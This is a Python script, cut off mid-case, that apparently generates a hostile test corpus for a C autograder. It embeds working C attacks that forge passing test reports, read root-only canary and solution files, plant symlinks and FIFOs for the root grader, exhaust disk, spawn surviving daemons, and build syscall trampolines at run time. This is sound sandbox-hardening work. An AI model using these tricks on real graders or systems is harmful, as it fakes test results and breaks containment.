"""Writes the hostile corpus: tests/tools/fixtures/attacks/<case>/.

  python3 -S tests/tools/attack_cases.py        # (re)writes every case

Each case is a complete SRC tree made from the STUBS of exercises/ (so an
honest grader gives it 0 points) with an attack spliced in, and a case.ini
(class, what, what is expected). tests/tools/attack_grade.py grades them.
The attacks are real: run them only through that runner, which plants the
canaries, bounds every run and cleans up after it."""

import configparser
import os
import re
import shutil
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))
OUT = os.path.join(HERE, "fixtures", "attacks")
KIT = os.path.join(HERE, "attack_kit.h.txt")
sys.path.insert(0, os.path.join(ROOT, "tools"))

# exercise -> its student files (exercises.ini is the source of truth)
def student_files():
    p = configparser.ConfigParser(inline_comment_prefixes=(";",))
    p.read(os.path.join(ROOT, "exercises", "exercises.ini"))
    return {s: p[s]["files"].split() for s in p.sections()}


FILES = student_files()
# From the staged copy (build/<ex>/<variant>/src/) back to the repository.
UP_FROM_STAGE = "../../../../"
# From <case>/<exercise>/ (inside the repository) back to the repository.
UP_FROM_CASE_EX = "../../../../../../"

HELGRIND_EXIT = r'''
/* ATTACK: in the helgrind driver, exit 0 before anything ran: no report of
 * a race can be written when nothing runs. */
__attribute__((constructor)) static void atk_quiet_helgrind(void)
{
    if (atk_in_helgrind_driver())
        _exit(0);
}
'''

FORGE_DESTRUCTOR = r'''
/* ATTACK: when the test program ends (after Criterion wrote its report),
 * rewrite the report as all passed and give every test its .done marker. */
__attribute__((destructor)) static void atk_forge_at_end(void)
{
    atk_forge(NULL);
}
'''


def leak_destructor(code):
    """A destructor that gathers text with `code` (into char buf[]) and puts
    it in every test's failure message."""
    return r'''
/* ATTACK: leak what the run can read through the forged report's messages. */
__attribute__((destructor)) static void atk_leak_at_end(void)
{
    static char buf[1 << 16];
    buf[0] = '\0';
%s
    atk_forge(buf);
}
''' % code


CASES = {}


def case(name, cls, what, mode="grade", **kw):
    CASES[name] = dict(cls=str(cls), what=what, mode=mode, **kw)


# ---- 1: verdict files written by the graded run itself -----------------------
case("c01_forge_destructor", 1, "a destructor rewrites report.xml as all passed and writes every .done marker",
     all=FORGE_DESTRUCTOR)
case("c01_forge_exit_in_test", 1, "each stub function writes every .done marker, then _exit(0): Criterion says PASSED",
     hook="atk_forge(NULL); _exit(0);")
case("c01_forge_atexit", 1, "a constructor registers an atexit handler that forges the report and markers",
     all=r'''
static void atk_forge_later(void)
{
    atk_forge(NULL);
}
/* ATTACK: the same forgery, from atexit rather than a destructor. */
__attribute__((constructor)) static void atk_register(void)
{
    atexit(atk_forge_later);
}
''')
case("c01_forge_fini_array", 1, "a function pointer placed in .fini_array by hand (no destructor attribute) forges the verdicts",
     all=r'''
static void atk_forge_fini(void)
{
    atk_forge(NULL);
}
/* ATTACK: a destructor without the attribute: a pointer in .fini_array. */
static void (*const atk_fini_entry)(void) __attribute__((used, section(".fini_array"))) = atk_forge_fini;
''')
case("c01_forge_raw_init_array_asm", 1, "the .init_array entry is made in top-level asm; it registers the forgery with atexit",
     all=r'''
static void atk_forge_late(void)
{
    atk_forge(NULL);
}
__attribute__((used)) static void atk_init_by_asm(void)
{
    atexit(atk_forge_late);
}
/* ATTACK: an init entry no C attribute shows. */
__asm__(".pushsection .init_array,\"aw\"\n.balign 8\n.quad atk_init_by_asm\n.popsection");
''')

# ---- 2: symbol-policy gaps -----------------------------------------------------
case("c02_ifunc_main", 2, "a GNU indirect function named main (nm kind i) replaces Criterion's main; it forges the verdicts and exits 0",
     all=r'''
static int atk_main(int argc, char **argv)
{
    (void)argc;
    (void)argv;
    atk_forge(NULL);
    return 0;
}
/* ATTACK: nm lists an IFUNC as kind i, which the policy does not read. */
typedef int (*atk_main_fn)(int, char **);
static atk_main_fn atk_pick_main(void)
{
    return atk_main;
}
int main(int argc, char **argv) __attribute__((ifunc("atk_pick_main")));
''' + HELGRIND_EXIT)
case("c02_ifunc_send_assert", 2, "IFUNCs named criterion_send_assert and criterion_abort_test (kind i) make failed assertions vanish",
     all=r'''
struct criterion_assert_stats;
static void atk_no_assert(struct criterion_assert_stats *s)
{
    (void)s;
}
static void atk_no_abort(void)
{
}
typedef void (*atk_assert_fn)(struct criterion_assert_stats *);
typedef void (*atk_abort_fn)(void);
static atk_assert_fn atk_pick_assert(void)
{
    return atk_no_assert;
}
static atk_abort_fn atk_pick_abort(void)
{
    return atk_no_abort;
}
/* ATTACK: replace Criterion's assertion reporting in the whole program. */
void criterion_send_assert(struct criterion_assert_stats *s) __attribute__((ifunc("atk_pick_assert")));
void criterion_abort_test(void) __attribute__((ifunc("atk_pick_abort")));
''' + HELGRIND_EXIT)
case("c02_weak_ref_kata_end", 2, "a weak reference (nm kind w) to kata_end: each stub function ends the test as finished, then _exit(0)",
     all=r'''
/* ATTACK: a weak undefined symbol is kind w, not U: the policy skips it. */
extern void kata_end(void) __attribute__((weak));
static ATK_UNUSED void atk_end_now(void)
{
    if (kata_end)
        kata_end();
    _exit(0);
}
''' + HELGRIND_EXIT, hook="atk_end_now();")
case("c02_weak_ref_dlsym", 2, "a weak reference (kind w) to dlsym, a forbidden call, finds kata_end by name; each stub function ends the test",
     all=r'''
extern void *dlsym(void *handle, const char *name) __attribute__((weak));
/* ATTACK: a forbidden call made through a weak reference. */
static ATK_UNUSED void atk_end_by_name(void)
{
    if (dlsym) {
        void (*end)(void) = (void (*)(void))dlsym((void *)0, "kata_end");
        if (end)
            end();
    }
    _exit(0);
}
''' + HELGRIND_EXIT, hook="atk_end_by_name();")
case("c02_asm_weak_ref", 2, "top-level asm declares kata_end weak (.weak), so the reference is kind w; each stub function ends the test",
     all=r'''
__attribute__((used)) static void atk_nothing(void)
{
}
/* ATTACK: names made in asm, where no C declaration shows them. */
__asm__(".weak kata_end\n");
static ATK_UNUSED void atk_asm_end(void)
{
    extern void kata_end(void) __attribute__((weak));
    if (kata_end)
        kata_end();
    _exit(0);
}
''' + HELGRIND_EXIT, hook="atk_asm_end();")

# ---- 3: include-check gaps ---------------------------------------------------
def include_solution(directive):
    def body(ex, f, stub):
        return ("/* ATTACK: compile the reference solution in; the stub is switched off. */\n"
                "%s\"%ssolutions/%s/%s\"\n#if 0\n%s\n#endif\n" % (directive, UP_FROM_STAGE, ex, f, stub))
    return body


case("c03_include_formfeed", 3, "#<form feed>include of the reference solution (the text check wants space or tab)",
     replace=include_solution("#\finclude "))
case("c03_include_vtab", 3, "#<vertical tab>include of the reference solution",
     replace=include_solution("#\vinclude "))
case("c03_import", 3, "#import of the reference solution (a GNU spelling of #include)",
     replace=include_solution("#pragma GCC diagnostic ignored \"-Wdeprecated\"\n#import "))
case("c03_comment_in_string", 3, "a string literal holding /* hides the #include from the comment stripper",
     replace=lambda ex, f, stub: (
         "/* ATTACK: the include check strips comments without knowing strings. */\n"
         "const char *atk_open_%s = \"/*\";\n#include \"%ssolutions/%s/%s\"\n"
         "const char *atk_close_%s = \"*/\";\n#if 0\n%s\n#endif\n"
         % (ex[:2], UP_FROM_STAGE, ex, f, ex[:2], stub)))
case("c03_include_secret", 3, "#<form feed>include of a root-only file: the compiler error quotes it",
     canary="yes", only="01-isolation",
     replace=lambda ex, f, stub: "#\finclude \"/srv/kata-canary/secret\"\n" + stub)

# ---- 4: the compiler runs as root on student input -------------------------------
case("c04_asm_include_secret", 4, "top-level asm .include of a root-only file: the assembler's error quotes its lines",
     canary="yes", only="01-isolation", all='__asm__(".include \\"/srv/kata-canary/secret\\"");\n')
INCBIN = r'''
/* ATTACK: the assembler (run as the grader) copies the file into the object;
 * the run prints it in the report. */
__asm__(".pushsection .rodata\natk_blob:\n.incbin \"@FILE@\"\n.byte 0\n.popsection");
extern const char atk_blob[];
''' + leak_destructor("    snprintf(buf, sizeof buf, \"%s\", atk_blob);")
case("c04_asm_incbin_secret", 4, "top-level asm .incbin of a root-only file, printed in the forged report",
     canary="yes", only="01-isolation", all=INCBIN.replace("@FILE@", "/srv/kata-canary/secret"))
case("c04_asm_incbin_solution", 4, "top-level asm .incbin of solutions/<ex>/<file>, printed in the forged report",
     canary="yes", only="01-isolation",
     all=INCBIN.replace("@FILE@", "solutions/01-isolation/isolation.c"))
case("c04_asm_incbin_hidden", 4, "top-level asm .incbin of a hidden test, printed in the forged report",
     canary="yes", only="01-isolation",
     all=INCBIN.replace("@FILE@", "tests/01-isolation/hidden/test_canary.c"))
case("c04_asm_in_function_incbin", 4, ".incbin inside a function's asm statement (not top-level) of a root-only file",
     canary="yes", only="01-isolation", all=r'''
static const char *atk_where(void)
{
    const char *p;
    /* ATTACK: the same .incbin, hidden in a function's asm. */
    __asm__(".pushsection .rodata\natk_blob2:\n.incbin \"/srv/kata-canary/secret\"\n.byte 0\n"
            ".popsection\nlea atk_blob2(%%rip), %0"
            : "=r"(p));
    return p;
}
''' + leak_destructor("    snprintf(buf, sizeof buf, \"%s\", atk_where());"))
case("c04_asm_fill_gigabytes", 4, "top-level asm .fill of 3 GB in .data: a huge object file on the grader's disk",
     disk="yes", only="01-isolation",
     all='/* ATTACK: a 3 GB object. */\n__asm__(".pushsection .data\\n.fill 0xC0000000, 1, 0\\n.popsection");\n')
case("c04_asm_rept_fill", 4, "top-level asm .rept of 3072 x 1 MB .fill: a 3 GB object, made in small pieces",
     disk="yes", only="01-isolation",
     all='/* ATTACK: a 3 GB object, 1 MB at a time. */\n'
         '__asm__(".pushsection .data\\n.rept 3072\\n.fill 1048576, 1, 0\\n.endr\\n.popsection");\n')
case("c04_has_include_probe", 4, "__has_include probes root-only paths at compile time; the answer is put in the report",
     canary="yes", only="01-isolation", all=r'''
#if __has_include("/srv/kata-canary/secret")
#define ATK_PROBE "KATA-PROBE: /srv/kata-canary/secret exists (seen by the root compiler)"
#else
#define ATK_PROBE "probe: not seen"
#endif
''' + leak_destructor("    snprintf(buf, sizeof buf, \"%s\", ATK_PROBE);"), probe="yes")

# ---- 5: root reads what the run produced without care --------------------------
case("c05_marker_symlink_secret", 5, "every .timeout marker is a symlink to a root-only file: the grader reads it into the message",
     canary="yes", all=r'''
/* ATTACK: markers are read by the grader (root), which follows links. */
__attribute__((destructor)) static void atk_link_markers(void)
{
    if (!*atk_marks() || !atk_tests())
        return;
    for (int i = 0; i < atk_count; i++) {
        char path[4096];
        atk_marker_path(path, sizeof path, atk_ids[i], ".timeout");
        unlink(path);
        if (symlink(ATK_SECRET, path) != 0)
            return;
    }
}
''')
case("c05_marker_symlink_dev_zero", 5, "a .timeout marker is a symlink to /dev/zero: the grader reads without end",
     only="01-isolation", all=r'''
/* ATTACK: an endless marker. */
__attribute__((destructor)) static void atk_zero_marker(void)
{
    if (!*atk_marks() || !atk_tests())
        return;
    char path[4096];
    atk_marker_path(path, sizeof path, atk_ids[0], ".timeout");
    unlink(path);
    if (symlink("/dev/zero", path) != 0)
        return;
}
''')
case("c05_report_fifo", 5, "report.xml is replaced by a FIFO: the grader's open blocks for ever",
     only="01-isolation", all=r'''
/* ATTACK: a report nobody will ever write. */
__attribute__((destructor)) static void atk_fifo_report(void)
{
    if (!*atk_marks())
        return;
    char path[4096];
    snprintf(path, sizeof path, "%s/../report.xml", atk_marks());
    unlink(path);
    if (mkfifo(path, 0666) != 0)
        return;
}
''')
case("c05_marker_fifo", 5, "a .timeout marker is a FIFO: the grader's read blocks for ever",
     only="01-isolation", all=r'''
/* ATTACK: a marker that blocks its reader. */
__attribute__((destructor)) static void atk_fifo_marker(void)
{
    if (!*atk_marks() || !atk_tests())
        return;
    char path[4096];
    atk_marker_path(path, sizeof path, atk_ids[0], ".timeout");
    unlink(path);
    if (mkfifo(path, 0666) != 0)
        return;
}
''')
case("c05_helgrind_log_dev_zero", 5, "forged tests, then the helgrind driver plants a log that is a symlink to /dev/zero",
     only="01-isolation", all=FORGE_DESTRUCTOR + r'''
/* ATTACK: the grader reads every helgrind.*.log of the folder. */
__attribute__((constructor)) static void atk_zero_log(void)
{
    if (!atk_in_helgrind_driver())
        return;
    char path[4096];
    snprintf(path, sizeof path, "%s", program_invocation_name);
    char *slash = strrchr(path, '/');
    if (!slash)
        _exit(0);
    snprintf(slash, sizeof path - (size_t)(slash - path), "/helgrind/helgrind.1.log");
    if (symlink("/dev/zero", path) != 0)
        _exit(0);
    _exit(0);
}
''')
case("c05_helgrind_log_symlink_secret", 5, "forged tests; the helgrind driver links a log to a root-only file (root reads it)",
     canary="yes", only="01-isolation", all=FORGE_DESTRUCTOR + r'''
__attribute__((constructor)) static void atk_secret_log(void)
{
    if (!atk_in_helgrind_driver())
        return;
    char path[4096];
    snprintf(path, sizeof path, "%s", program_invocation_name);
    char *slash = strrchr(path, '/');
    if (!slash)
        _exit(0);
    snprintf(slash, sizeof path - (size_t)(slash - path), "/helgrind/helgrind.1.log");
    /* ATTACK: a log root opens for us; its text may reach the summary. */
    if (symlink(ATK_SECRET, path) != 0)
        _exit(1);
    _exit(1);
}
''')

# ---- 6: symlinks in a submitted clone --------------------------------------------
case("c06_symlink_to_solution", 6, "every submitted .c is a symlink to the reference solution",
     link=lambda ex, f: UP_FROM_CASE_EX + "solutions/%s/%s" % (ex, f))
case("c06_symlink_to_secret", 6, "the submitted isolation.c is a symlink to a root-only file: the compile error quotes it",
     canary="yes", link=lambda ex, f: "/srv/kata-canary/secret" if ex == "01-isolation" else None)
case("c06_dir_symlink_to_solutions", 6, "each exercise folder of the submission is a symlink to solutions/<exercise>",
     dirlink=lambda ex: "../../../../../solutions/" + ex)

# ---- 7: a forged helgrind verdict --------------------------------------------------
case("c07_helgrind_ctor_exit", 7, "forged tests, and the helgrind driver exits 0 from a constructor (reads as clean)",
     all=FORGE_DESTRUCTOR + HELGRIND_EXIT)
case("c07_helgrind_line_directive", 7, "forged tests; in the driver a real race runs under #line naming tests/common/kata.c, then exit 0",
     all=FORGE_DESTRUCTOR + r'''
#include <pthread.h>
static ATK_UNUSED long atk_shared;
#line 300 "tests/common/kata.c"
static void *atk_racer(void *arg)
{
    (void)arg;
    for (int i = 0; i < 1000; i++)
        atk_shared++; /* a real race, said to be the harness's own line */
    return NULL;
}
__attribute__((constructor)) static void atk_race_then_exit(void)
{
    if (!atk_in_helgrind_driver())
        return;
    pthread_t a, b;
    if (pthread_create(&a, NULL, atk_racer, NULL) == 0 && pthread_create(&b, NULL, atk_racer, NULL) == 0) {
        pthread_join(a, NULL);
        pthread_join(b, NULL);
    }
    _exit(0);
}
''')
case("c07_helgrind_exit_from_atexit", 7, "forged tests; the driver's atexit handler turns its failure into exit status 0",
     all=FORGE_DESTRUCTOR + r'''
static void atk_exit_zero(void)
{
    _exit(0);
}
/* ATTACK: whatever the scenario found, the driver ends with status 0. */
__attribute__((constructor)) static void atk_hg_atexit(void)
{
    if (atk_in_helgrind_driver())
        atexit(atk_exit_zero);
}
''')

# ---- 8: reachable answers at run time --------------------------------------------
case("c08_read_solution", 8, "at run time, read solutions/<exercise>/ and put it in the forged report",
     canary="yes", only="01-isolation",
     all=leak_destructor("    atk_append_file(buf, sizeof buf, \"solutions/01-isolation/isolation.c\");"))
case("c08_exec_solution", 8, "at run time, compile the reference solution with cc and run a shell on solutions/; output in the report",
     canary="yes", only="01-isolation", all=leak_destructor(r'''
    /* ATTACK: the compiler and a shell are there to be run. */
    FILE *p = popen("cc -fsyntax-only -I exercises/01-isolation solutions/01-isolation/isolation.c "
                    "&& echo compiled the solution; head -c 400 solutions/*/*.c", "r");
    if (p) {
        size_t n = fread(buf, 1, sizeof buf - 1, p);
        buf[n] = '\0';
        pclose(p);
    }'''))
case("c08_read_hidden", 8, "at run time, read tests/01-isolation/hidden/ and put it in the forged report",
     canary="yes", only="01-isolation",
     all=leak_destructor("    atk_append_file(buf, sizeof buf, \"tests/01-isolation/hidden/test_canary.c\");"))
case("c08_read_other_student", 8, "grade-all: read the other student's staged files (build/submissions/victim) into the report",
     canary="yes", mode="grade-all", only="01-isolation", all=leak_destructor(r'''
    /* ATTACK: a classmate's files, staged world-readable. */
    for (int i = 0; i < 50 && !buf[0]; i++) {
        atk_append_file(buf, sizeof buf, "build/submissions/victim/01-isolation/isolation.c");
        if (!buf[0])
            usleep(100000);
    }'''))
case("c08_environment", "environ", "the grader's environment is the run's: print it in the forged report",
     canary="yes", only="01-isolation", all=leak_destructor(r'''
    extern char **environ;
    for (char **e = environ; *e; e++) {
        strncat(buf, *e, sizeof buf - strlen(buf) - 2);
        strcat(buf, "\n");
    }'''))

# ---- 9: harm outside the run's limits -------------------------------------------
case("c09_many_files", 9, "60000 small files in the run folder (the size limit is per file)",
     only="01-isolation", all=r'''
__attribute__((destructor)) static void atk_many(void)
{
    if (!*atk_marks())
        return;
    /* ATTACK: inodes, not bytes. */
    for (int i = 0; i < 60000; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/../f%05d", atk_marks(), i);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0)
            return;
        close(fd);
    }
}
''')
case("c09_big_files", 9, "twenty 60 MB files in the run folder, each under the 64 MB file-size limit",
     only="01-isolation", all=r'''
__attribute__((destructor)) static void atk_big(void)
{
    if (!*atk_marks())
        return;
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    /* ATTACK: 1.2 GB in all, no single file over the limit. */
    for (int i = 0; i < 20; i++) {
        char path[4096];
        snprintf(path, sizeof path, "%s/../big%02d", atk_marks(), i);
        int fd = open(path, O_WRONLY | O_CREAT | O_CLOEXEC, 0644);
        if (fd < 0)
            return;
        for (int m = 0; m < 60; m++)
            if (write(fd, block, sizeof block) < 0)
                break;
        close(fd);
    }
}
''')
case("c09_run_lock_file", 9, "a file in /run/lock (world-writable, not a private tmpfs) outlives the run",
     only="01-isolation", all=r'''
__attribute__((constructor)) static void atk_lock_file(void)
{
    char path[256];
    /* ATTACK: a world-writable folder nobody cleans. */
    snprintf(path, sizeof path, "/run/lock/kata-attack-%d", (int)getuid());
    atk_put(path, "left behind by a graded run\n");
}
''')
case("c09_tmp_files", 9, "files in /tmp, /var/tmp and /dev/shm (private only where the grader may mount)",
     only="01-isolation", all=r'''
__attribute__((constructor)) static void atk_tmp_files(void)
{
    static const char *const dirs[] = {"/tmp", "/var/tmp", "/dev/shm"};
    /* ATTACK: the shared temporary folders, when no private tmpfs hides them. */
    for (int i = 0; i < 3; i++) {
        char path[256];
        snprintf(path, sizeof path, "%s/kata-attack-%d", dirs[i], (int)getuid());
        atk_put(path, "left behind by a graded run\n");
    }
}
''')
case("c09_sysv_shm", 9, "a 64 MB System V shared memory segment outlives the run",
     only="01-isolation", all=r'''
#include <sys/ipc.h>
#include <sys/shm.h>
__attribute__((constructor)) static void atk_shm(void)
{
    /* ATTACK: IPC objects belong to no process. */
    int id = shmget(IPC_PRIVATE, 64 << 20, IPC_CREAT | 0600);
    if (id >= 0) {
        char *p = shmat(id, NULL, 0);
        if (p != (void *)-1) {
            memset(p, 1, 64 << 20);
            shmdt(p);
        }
    }
}
''')
case("c09_sysv_sem_msg", 9, "a System V semaphore set and message queue outlive the run",
     only="01-isolation", all=r'''
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/sem.h>
__attribute__((constructor)) static void atk_sem_msg(void)
{
    /* ATTACK: more IPC that belongs to no process. */
    if (semget(IPC_PRIVATE, 4, IPC_CREAT | 0600) < 0)
        return;
    if (msgget(IPC_PRIVATE, IPC_CREAT | 0600) < 0)
        return;
}
''')
case("c09_memfd_hold", 9, "1.5 GB held in 25 memfds of 60 MB (each under the file-size limit; never mapped: no RSS) while the tests run",
     only="01-isolation", memory="yes", all=r'''
#include <sys/mman.h>
__attribute__((constructor)) static void atk_memfd(void)
{
    if (atk_in_helgrind_driver() || getenv("ATK_MEMFD_DONE"))
        return;
    setenv("ATK_MEMFD_DONE", "1", 1);
    static char block[1 << 20];
    memset(block, 'x', sizeof block);
    /* ATTACK: page cache the RSS watchdog does not count. */
    for (int f = 0; f < 25; f++) {
        int fd = memfd_create("atk", 0);
        if (fd < 0)
            return;
        for (int m = 0; m < 60; m++)
            if (write(fd, block, sizeof block) < 0)
                return;
    }
    sleep(2); /* held while the grader watches */
}
''')
case("c09_network_tcp", 9, "connects to a TCP port on 127.0.0.1 (the runner listens on 47615)",
     only="01-isolation", network="yes", all=r'''
#include <arpa/inet.h>
#include <netinet/in.h>
#include <sys/socket.h>
__attribute__((constructor)) static void atk_tcp(void)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return;
    struct sockaddr_in a;
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(47615);
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    /* ATTACK: the network is open to graded code. */
    if (connect(s, (struct sockaddr *)&a, sizeof a) == 0 && write(s, "KATA-ATTACK-NET\n", 16) < 0)
        perror("write");
    close(s);
}
''')
case("c09_abstract_unix_socket", 9, "connects to an abstract unix socket (@kata-attack-<pid>) the runner listens on",
     only="01-isolation", network="yes", all=r'''
#include <sys/socket.h>
#include <sys/un.h>
__attribute__((constructor)) static void atk_unix(void)
{
    const char *name = getenv("ATK_SOCKET_NAME");
    char fallback[] = "kata-attack-socket";
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (s < 0)
        return;
    struct sockaddr_un a;
    memset(&a, 0, sizeof a);
    a.sun_family = AF_UNIX;
    snprintf(a.sun_path + 1, sizeof a.sun_path - 1, "%s", name ? name : fallback);
    /* ATTACK: abstract sockets live in the network namespace, not the file system. */
    if (connect(s, (struct sockaddr *)&a, (socklen_t)(sizeof(sa_family_t) + 1 + strlen(a.sun_path + 1))) == 0 &&
        write(s, "KATA-ATTACK-NET\n", 16) < 0)
        perror("write");
    close(s);
}
'''.replace('getenv("ATK_SOCKET_NAME")', "NULL"))
case("c09_daemon_double_fork", 9, "a double-forked, setsid'd sleeper that closes its fds and ignores SIGTERM/SIGHUP",
     only="01-isolation", all=r'''
__attribute__((constructor)) static void atk_daemon(void)
{
    if (atk_in_helgrind_driver() || getenv("ATK_DAEMON_DONE"))
        return;
    setenv("ATK_DAEMON_DONE", "1", 1);
    pid_t p = fork();
    if (p == 0) {
        setsid();
        if (fork() == 0) {
            signal(SIGTERM, SIG_IGN);
            signal(SIGHUP, SIG_IGN);
            for (int fd = 0; fd < 1024; fd++)
                close(fd);
            /* ATTACK: outlive the grading. */
            sleep(60);
        }
        _exit(0);
    }
}
''')

# ---- raw system calls (a new class) ---------------------------------------------
case("c_raw_syscall", "raw-syscall", "a `syscall` instruction (no libc symbol) creates /run/lock/kata-attack-raw-<uid>",
     only="01-isolation", all=r'''
static long atk_sys3(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile("syscall" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}
/* ATTACK: open(2) and write(2) without any libc symbol in the object. */
__attribute__((constructor)) static void atk_raw(void)
{
    char path[64];
    snprintf(path, sizeof path, "/run/lock/kata-attack-raw-%d", (int)getuid());
    long fd = atk_sys3(2 /* open */, (long)path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0) {
        atk_sys3(1 /* write */, fd, (long)"raw\n", 4);
        atk_sys3(3 /* close */, fd, 0, 0);
    }
}
''')
case("c_raw_syscall_bytes", "raw-syscall", "the syscall instruction spelled as .byte 0x0f,0x05 creates /run/lock/kata-attack-rawb-<uid>",
     only="01-isolation", all=r'''
static long atk_sysb(long nr, long a, long b, long c)
{
    long ret;
    __asm__ volatile(".byte 0x0f, 0x05" : "=a"(ret) : "a"(nr), "D"(a), "S"(b), "d"(c) : "rcx", "r11", "memory");
    return ret;
}
/* ATTACK: a system call no disassembler-free scan finds by name. */
__attribute__((constructor)) static void atk_rawb(void)
{
    char path[64];
    snprintf(path, sizeof path, "/run/lock/kata-attack-rawb-%d", (int)getuid());
    long fd = atk_sysb(2, (long)path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
    if (fd >= 0)
        atk_sysb(3, fd, 0, 0);
}
''')

# ---- run time: system calls made by code built at run time ------------------------
# The object policy judges the object as compiled: only the exercise's library
# calls, no system-call instruction. Machine code written into an executable
# mapping at run time (mmap is one of 01's calls) passes it, so each of these
# makes its system calls from such a page: what stops them is the run's
# containment alone (the user, the sandbox, the written-bytes watchdog, the
# guard). No kit: the kit's own library calls would be refused first.
JIT = r"""
#include <stddef.h>
#include <sys/mman.h>
#include <unistd.h>
/* ATTACK: a system-call trampoline written at run time, out of the policy's sight:
 * mov rax,rdi; mov rdi,rsi; mov rsi,rdx; mov rdx,rcx; mov r10,r8; syscall; ret */
typedef long (*atk_sc_fn)(long, long, long, long, long);
static long atk_sc(long nr, long a, long b, long c, long d)
{
    static atk_sc_fn fn;
    static const unsigned char code[] = {0x48, 0x89, 0xf8, 0x48, 0x89, 0xf7, 0x48, 0x89, 0xd6,
                                         0x48, 0x89, 0xca, 0x4d, 0x89, 0xc2, 0x0f, 0x05, 0xc3};
    if (!fn) {
        unsigned char *p = mmap(NULL, 4096, PROT_READ | PROT_WRITE | PROT_EXEC,
                                MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
        if (p == MAP_FAILED)
            return -1;
        for (size_t i = 0; i < sizeof code; i++)
            p[i] = code[i];
        fn = (atk_sc_fn)(void *)p;
    }
    return fn(nr, a, b, c, d);
}
/* A name with a number at the end, without the C library. */
__attribute__((unused)) static void atk_name(char *out, const char *head, long n)
{
    size_t i = 0;
    while (head[i]) {
        out[i] = head[i];
        i++;
    }
    char digits[24];
    int k = 0;
    do {
        digits[k++] = (char)('0' + n % 10);
        n /= 10;
    } while (n);
    while (k)
        out[i++] = digits[--k];
    out[i] = '\0';
}
static int atk_once;
"""


def jit_case(name, what, body, **kw):
    case(name, "runtime", what, only="01-isolation", bare=JIT + body,
         hook="atk_attack();", **kw)


jit_case("c13_jit_many_files", "60000 empty files in the run's folder, by system calls built at run time", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    for (long i = 0; i < 60000; i++) {
        char path[64];
        atk_name(path, "f", i);
        long fd = atk_sc(2, (long)path, 0101, 0644, 0); /* open(O_WRONLY|O_CREAT) */
        if (fd < 0)
            return;
        atk_sc(3, fd, 0, 0, 0);
    }
}
""")
jit_case("c13_jit_big_total", "eight 60 MB files in the run's folder (each under the file size cap, 480 MB in all)", r"""
static char atk_block[1 << 20];
static void atk_attack(void)
{
    if (atk_once++)
        return;
    for (long i = 0; i < 8; i++) {
        char path[64];
        atk_name(path, "big", i);
        long fd = atk_sc(2, (long)path, 0101, 0644, 0);
        if (fd < 0)
            return;
        for (int m = 0; m < 60; m++)
            atk_sc(1, fd, (long)atk_block, sizeof atk_block, 0);
        atk_sc(3, fd, 0, 0, 0);
    }
}
""", disk="yes")
jit_case("c13_jit_world_writable", "a file in /tmp, /var/tmp, /dev/shm, /run/lock and /dev/mqueue, a POSIX message queue and System V shared memory", r"""
static void atk_attack(void)
{
    static const char *const dirs[] = {"/tmp/kata-attack-jit-", "/var/tmp/kata-attack-jit-",
                                       "/dev/shm/kata-attack-jit-", "/run/lock/kata-attack-jit-",
                                       "/dev/mqueue/kata-attack-jit-"};
    if (atk_once++)
        return;
    long uid = atk_sc(102, 0, 0, 0, 0); /* getuid */
    for (int i = 0; i < 5; i++) {
        char path[96];
        atk_name(path, dirs[i], uid);
        long fd = atk_sc(2, (long)path, 0101, 0644, 0);
        if (fd >= 0)
            atk_sc(3, fd, 0, 0, 0);
    }
    char q[64];
    atk_name(q, "kata-attack-jit-mq-", uid);
    atk_sc(240, (long)q, 0102, 0600, 0); /* mq_open(O_RDWR|O_CREAT) */
    atk_sc(29, 0, 1 << 20, 01600, 0);   /* shmget(IPC_PRIVATE, 1 MB, IPC_CREAT|0600) */
}
""")
jit_case("c13_jit_daemon", "fork, setsid and wait for ever, the test process ending at once (exit_group) so no harness clean-up runs", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    if (fork() == 0) {
        atk_sc(112, 0, 0, 0, 0); /* setsid */
        if (fork() == 0)
            for (;;)
                atk_sc(34, 0, 0, 0, 0); /* pause */
        atk_sc(231, 0, 0, 0, 0);
    }
    atk_sc(231, 0, 0, 0, 0); /* exit_group(0): no clean-up of its children */
}
""")
jit_case("c13_jit_kill_all", "kill(-1, SIGKILL) by a system call built at run time", r"""
static void atk_attack(void)
{
    if (atk_once++)
        return;
    atk_sc(62, -1, 9, 0, 0);
}
""")
jit_case("c13_jit_read_secret", "open the root-only canary and the solutions by system calls; write what it read to the run's output", r"""
static char atk_buf[1 << 16];
static void atk_attack(void)
{
    static const char *const victims[] = {"/srv/kata-canary/secret",
                                          "solutions/01-isolation/isolation.c",
                                          "../solutions/01-isolation/isolation.c"};
    if (atk_once++)
        return;
    for (int i = 0; i < 3; i++) {
        long fd = atk_sc(2, (long)victims[i], 0, 0, 0);
        if (fd < 0)
            continue;
        long n = atk_sc(0, fd, (long)atk_buf, sizeof atk_buf, 0);
        if (n > 0)
            atk_sc(1, 2, (long)atk_buf, n, 0);
        atk_sc(3, fd, 0, 0, 0);
    }
}
""", canary="yes")


# ---- more ways around the object policy ----------------------------------------
# Each hides code that would run outside the tests, or a name the harness owns,
# in a form no C attribute on a plain function shows. No kit (its own library
# calls would be refused first): the runner checks that the object policy is
# what refused the code (refused = yes).
EARLY_EXIT = r"""
#include <unistd.h>
/* ATTACK: ends the test program before a test runs, as if all went well. */
__attribute__((used)) static void atk_early(void)
{
    _exit(0);
}
static void atk_touch(void)
{
}
"""


def policy_case(name, what, body):
    case(name, "policy", what, only="01-isolation", refused="yes", bare=body, hook="atk_touch();")


policy_case("c14_alias_main", "main defined as an alias (__attribute__((alias))) of a function of ours",
            EARLY_EXIT + r"""
